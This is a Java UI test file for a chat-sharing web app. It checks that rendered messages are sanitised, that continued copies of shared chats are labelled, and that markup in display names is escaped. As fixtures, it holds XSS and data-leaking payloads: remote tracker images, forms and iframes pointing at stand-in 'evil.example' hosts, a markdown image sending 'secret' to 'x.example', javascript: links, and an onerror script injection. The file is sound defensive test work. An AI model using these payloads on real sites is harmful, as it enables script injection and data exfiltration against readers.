package com.chatshare.conversations.ui;

import static com.github.mvysny.kaributesting.v10.LocatorJ._get;
import static org.assertj.core.api.Assertions.assertThat;

import com.chatshare.KaribuTest;
import com.chatshare.SignedIn;
import com.chatshare.accounts.AccountService;
import com.chatshare.accounts.Registration;
import com.chatshare.conversations.ChatTurn;
import com.chatshare.conversations.ConversationService;
import com.chatshare.conversations.ConversationSummary;
import com.chatshare.conversations.MessageRole;
import com.chatshare.sharing.ShareDetails;
import com.chatshare.sharing.ShareService;
import com.chatshare.sharing.ShareVisibility;
import com.chatshare.sharing.SharingFixtures;
import com.chatshare.sharing.SharedChatService;
import com.github.mvysny.kaributesting.v10.GridKt;
import com.vaadin.flow.component.UI;
import com.vaadin.flow.component.grid.Grid;
import java.util.List;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.security.core.userdetails.UserDetailsService;

/**
 * The chat view renders messages on the server through the public page's sanitiser: a stored
 * message can make no reader's browser load anything from elsewhere, and a continued copy says
 * whose words are whose.
 */
class ChatViewSanitisingTest extends KaribuTest {

    @Autowired
    ConversationService conversations;

    @Autowired
    ShareService shares;

    @Autowired
    SharedChatService sharedChats;

    @Autowired
    UserDetailsService users;

    @Autowired
    AccountService accounts;

    @Test
    void remote_images_forms_and_styles_in_a_message_reach_the_browser_as_nothing_active() {
        SignedIn.as(users, "alice");
        ConversationSummary chat = conversations.createConversation("Tracker test", List.of(
                new ChatTurn(MessageRole.USER, "<img src=\"https://tracker.example/p.png\"> hello "
                        + "<form action=\"https://evil.example\"><input name=q></form>"
                        + "<style>body{background:url(https://evil.example/bg)}</style>"),
                new ChatTurn(MessageRole.ASSISTANT, "![secret](https://x.example/?q=secret) and "
                        + "[link](javascript:alert(1)) <iframe src=\"https://evil.example\"></iframe>")));
        login("alice");

        UI.getCurrent().navigate("chat/" + chat.id());

        ChatMessages messages = _get(ChatMessages.class);
        assertThat(messages.entries()).hasSize(2);
        for (MessageEntry entry : messages.entries()) {
            String html = entry.getChildren().toList().getLast().getChildren().toList().getLast()
                    .getElement().getProperty("innerHTML");
            Document rendered = Jsoup.parseBodyFragment(html);
            assertThat(rendered.select("img, form, input, style, iframe, script, [style], [src]")).isEmpty();
            assertThat(rendered.select("a[href^=javascript]")).isEmpty();
        }
        assertThat(messages.entries().getLast().getElement().toString()).doesNotContain("<img");
    }

    @Test
    void a_continued_copy_labels_the_shared_chats_messages_and_is_marked_in_the_chat_list() {
        ShareDetails link = SharingFixtures.share(shares, conversations, users, "alice", "Whose words are these?",
                ShareVisibility.ANONYMOUS);
        SignedIn.as(users, "bob");
        ConversationSummary copy = sharedChats.continueConversation(SharingFixtures.token(link));
        login("bob");

        UI.getCurrent().navigate("chat/" + copy.id());

        List<MessageEntry> entries = _get(ChatMessages.class).entries();
        assertThat(entries).extracting(MessageEntry::getUserName)
                .containsExactly("From the shared chat", "Assistant · from the shared chat")
                .doesNotContain("Bob Example");
        @SuppressWarnings("unchecked")
        Grid<ConversationSummary> list = _get(Grid.class, spec -> spec.withId("chat-list"));
        int row = GridKt._findAll(list).stream().map(ConversationSummary::id).toList().indexOf(copy.id());
        assertThat(GridKt._getCellComponent(list, row, "chat").getElement().toString())
                .contains("Continued from a shared chat");
    }

    @Test
    void a_display_name_with_markup_is_shown_as_the_text_it_is_on_the_author_line() {
        String name = "<img src=x onerror=alert(1)> Eve & \"Co\"";
        String username = "markup-" + System.nanoTime();
        accounts.register(new Registration(username, name, "long-enough-password"));
        SignedIn.as(users, username);
        ConversationSummary chat = conversations.createConversation("Names", List.of(
                new ChatTurn(MessageRole.USER, "hello"), new ChatTurn(MessageRole.ASSISTANT, "hi")));
        login(username);

        UI.getCurrent().navigate("chat/" + chat.id());

        MessageEntry mine = _get(ChatMessages.class).entries().getFirst();
        String about = mine.getElement().toString();
        Document line = Jsoup.parseBodyFragment(_get(mine, com.vaadin.flow.component.html.Span.class,
                spec -> spec.withClasses("chat-message-about")).getElement().getProperty("innerHTML"));
        assertThat(line.select("img, [onerror]")).isEmpty();
        assertThat(line.select(".chat-message-author").text()).isEqualTo(name);
        assertThat(line.select(".chat-message-time").text()).isNotBlank();
        assertThat(about).doesNotContain("<img");
    }
}
